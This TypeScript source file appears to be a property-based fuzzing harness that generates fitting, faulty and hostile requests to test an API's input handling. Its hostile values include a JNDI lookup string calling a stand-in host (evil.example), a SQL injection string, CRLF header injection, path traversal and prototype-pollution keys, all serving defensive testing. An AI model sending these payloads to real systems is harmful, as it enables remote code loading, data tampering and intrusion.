import fc from 'fast-check';
import type { ApiOperations, Operation, Parameter, Schema } from './document.js';
import { type Faulty, faultsIn, type FromSchema } from './from-schema.js';
import { files, key } from './hints.js';
import { HOSTILE_BODIES, hostileJson, hostileText, Raw } from './values.js';

/** `fits`: within the schema. `hostile`: perhaps. `fault`: one fault, must be refused. `foreign`: from somebody it is not for, must be refused. */
export type Mode = 'fits' | 'repeat' | 'hostile' | 'fault' | 'foreign';

/** A request that is not sent yet: ids stand in it as references. */
export interface Plan {
  readonly operation: Operation;
  readonly mode: Mode;
  /** The fault, for people. */
  readonly what: string;
  /** Decides who asks. */
  readonly who: number;
  readonly path: Readonly<Record<string, unknown>>;
  readonly query: readonly (readonly [string, unknown])[];
  readonly headers: Readonly<Record<string, unknown>>;
  /** JSON, or the text of a file where the route takes a form. */
  readonly body?: unknown;
}

type Parts = Omit<Plan, 'operation' | 'mode' | 'who'>;

/** Arbitraries of requests to one operation. */
export class Plans {
  readonly #made = new Map<string, fc.Arbitrary<Plan>>();

  constructor(
    private readonly api: ApiOperations,
    private readonly schemas: FromSchema,
  ) {}

  of(operation: Operation, mode: Mode): fc.Arbitrary<Plan> {
    const name = `${mode} ${operation.id}`;
    let plans = this.#made.get(name);
    if (!plans) this.#made.set(name, (plans = fc.tuple(this.#parts(operation, mode), fc.nat(10_000)).map(([parts, who]) => ({ operation, mode, who, ...parts }))));
    return plans;
  }

  #parts(operation: Operation, mode: Mode): fc.Arbitrary<Parts> {
    const fitting = this.#fitting(operation);
    if (mode === 'hostile') return this.#hostile(operation, fitting);
    if (mode === 'fault') return fc.tuple(fitting, fc.nat(1_000_000)).map(([parts, pick]) => this.#faulty(operation, parts, pick));
    return fitting;
  }

  #fitting(operation: Operation): fc.Arbitrary<Parts> {
    const named = (where: Parameter['in']) => operation.parameters.filter((parameter) => parameter.in === where);
    const each = (parameters: readonly Parameter[]) => Object.fromEntries(parameters.map(({ name, schema, required }) => [name, this.#parameter(name, schema, required)]));
    const body = operation.json ? this.schemas.valid(operation.json) : operation.form ? files : fc.constant(undefined);
    return fc
      .tuple(fc.record(each(named('path').map((one) => ({ ...one, required: true })))), fc.record(each(named('query'))), fc.record(each(named('header'))), body)
      .map(([path, query, headers, body]) => ({ what: '', path, query: Object.entries(query).filter(([, value]) => value !== undefined), headers, body }));
  }

  #parameter(name: string, schema: Schema, required = false): fc.Arbitrary<unknown> {
    if (name === 'Idempotency-Key') return required ? key : fc.option(key, { nil: undefined, freq: 3 });
    if (/^(Holdfast-|If-)/.test(name)) return fc.constantFrom('known', 'known', 'known', 'known', 'none', 'wrong', 'star');
    const values = this.schemas.valid(schema, name);
    return required ? values : fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: values });
  }

  #hostile(operation: Operation, fitting: fc.Arbitrary<Parts>): fc.Arbitrary<Parts> {
    const body = operation.json ? fc.oneof({ weight: 5, arbitrary: this.schemas.hostile(operation.json) }, { weight: 1, arbitrary: hostileJson }) : operation.form ? files : fc.option(hostileJson, { freq: 4, nil: undefined });
    const query = fc.array(fc.tuple(fc.oneof(fc.constantFrom(...namesOf(operation, 'query'), 'q', '__proto__', 'a[b][c]', 'limit'), hostileText), hostileText), { maxLength: 3 });
    return fc.tuple(fitting, body, fc.oneof({ weight: 3, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: query }), headerTexts).map(([parts, body, query, headers]) => ({
      ...parts, what: 'hostile', body, query: [...parts.query, ...query], headers: { ...parts.headers, ...headers },
    }));
  }

  #faulty(operation: Operation, parts: Parts, pick: number): Parts {
    const faults = [...pathFaults(operation, parts), ...queryFaults(operation, parts), ...headerFaults(operation, parts), ...this.#bodyFaults(operation, parts)];
    // Each place gets its turn, however many faults a body may have.
    const place = faults[pick % faults.length]!;
    return place[Math.floor(pick / faults.length) % place.length]!;
  }

  #bodyFaults({ json }: Operation, parts: Parts): Parts[][] {
    if (!json) return [];
    const inside = faultsIn(this.api, json, parts.body).map(({ what, value }: Faulty) => ({ ...parts, what: `body ${what}`, body: value }));
    const whole = HOSTILE_BODIES.filter((text) => text.trim() !== '').map((text) => ({ ...parts, what: `body ${text.slice(0, 20)}`, body: new Raw(text) }));
    const types = ['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'nonsense'].map((type) => ({ ...parts, what: `sent as ${type}`, headers: { ...parts.headers, 'content-type': type } }));
    return [inside, inside, inside, whole, types];
  }
}

const namesOf = ({ parameters }: Operation, where: Parameter['in']): string[] => parameters.filter((one) => one.in === where).map(({ name }) => name);

const NO_IDS = ['x', '%00', '..', '%2e%2e%2f', 'undefined', '*', "'", '%F0%9F%9B%92', '%', '%zz', '%ff', 'cart_', 'x'.repeat(150), 'x'.repeat(300), '-1', '1', ';a=b', '%0d%0aset-cookie:a=b', 'null', '__proto__', 'constructor', '%ED%A0%80'];

function pathFaults(operation: Operation, parts: Parts): Parts[][] {
  const names = namesOf(operation, 'path');
  return names.map((name) => NO_IDS.map((text) => ({ ...parts, what: `{${name}} is ${text.slice(0, 20)}`, path: { ...parts.path, [name]: new Raw(text) } })));
}

function queryFaults({ parameters }: Operation, parts: Parts): Parts[][] {
  const more = (what: string, ...pairs: [string, string][]): Parts => ({ ...parts, what, query: [...parts.query.filter(([name]) => !pairs.some(([other]) => other === name)), ...pairs] });
  const known = parameters.filter((one) => one.in === 'query').map(({ name, schema }) => [
    ...wrongTexts(schema).map((text) => more(`?${name}=${text.slice(0, 20)}`, [name, text])),
    more(`?${name} twice`, [name, '1'], [name, '2']), more(`?${name}[]`, [`${name}[]`, '1']), more(`?${name}[x]`, [`${name}[x]`, '1']),
  ]);
  const unknown = ['colour', '__proto__', 'constructor', 'limit ', 'LIMIT', '', 'a'.repeat(500)].map((name) => more(`?${name.slice(0, 20)} unknown`, [name, '1']));
  return [...known, unknown];
}

const wrongTexts = ({ type, pattern, format, enum: choices, maxLength, minimum, maximum }: Schema): string[] => {
  if (type === 'integer') return ['x', '1.5', '1e400', '0x10', ' 1', '', 'NaN', ...(minimum === undefined ? [] : [String(minimum - 1)]), ...(maximum === undefined ? [] : [String(maximum + 1)])];
  if (type === 'boolean') return ['yes', '1', 'TRUE', ''];
  return [...(choices ? ['no such choice'] : []), ...(pattern ? ['\u00a0 no ! such #'] : []), ...(format ? ['nothing of the kind'] : []), ...(maxLength ? ['x'.repeat(maxLength + 1)] : [])];
};

function headerFaults({ parameters }: Operation, parts: Parts): Parts[][] {
  const one = parameters.find(({ name }) => name === 'Idempotency-Key');
  if (!one) return [];
  const bad: unknown[] = ['abc', 'with spaces in it, and long', 'é'.repeat(20), 'x'.repeat(256), '"'.repeat(300), '', ...(one.required ? [undefined] : [])];
  return [bad.map((value) => ({ ...parts, what: `Idempotency-Key: ${String(value).slice(0, 20)}`, headers: { ...parts.headers, 'Idempotency-Key': value } }))];
}

/** Headers that mean something to somebody, with values that a client can send. */
const headerTexts: fc.Arbitrary<Record<string, string>> = fc.oneof(
  { weight: 3, arbitrary: fc.constant({}) },
  {
    weight: 1,
    arbitrary: fc.dictionary(
      fc.constantFrom('X-Request-Id', 'Traceparent', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Http-Method-Override', 'If-None-Match', 'If-Match', 'Accept', 'Accept-Encoding', 'Accept-Language', 'Origin', 'Cookie', 'Range', 'Expect-Ct', 'Referer', 'User-Agent', 'Holdfast-Cart-Token', 'Content-Encoding', 'Stripe-Signature'),
      fc.oneof(fc.constantFrom('', '*', '"1"', 'W/"1"', '"', ',', 'bytes=0-', 'gzip', 'application/xml', 'null', '127.0.0.1', '::1', '00-00000000000000000000000000000000-0000000000000000-00', `00-${'f'.repeat(32)}-${'f'.repeat(16)}-01`, 'DELETE', '${jndi:ldap://evil.example/a}', "' or 1=1 --", '\u00ff\u00fe', 'x'.repeat(3_000)), fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).filter((code) => code < 0x7f || code > 0xa0).map((code) => String.fromCodePoint(code)), maxLength: 40 })),
      { minKeys: 1, maxKeys: 2 },
    ),
  },
);
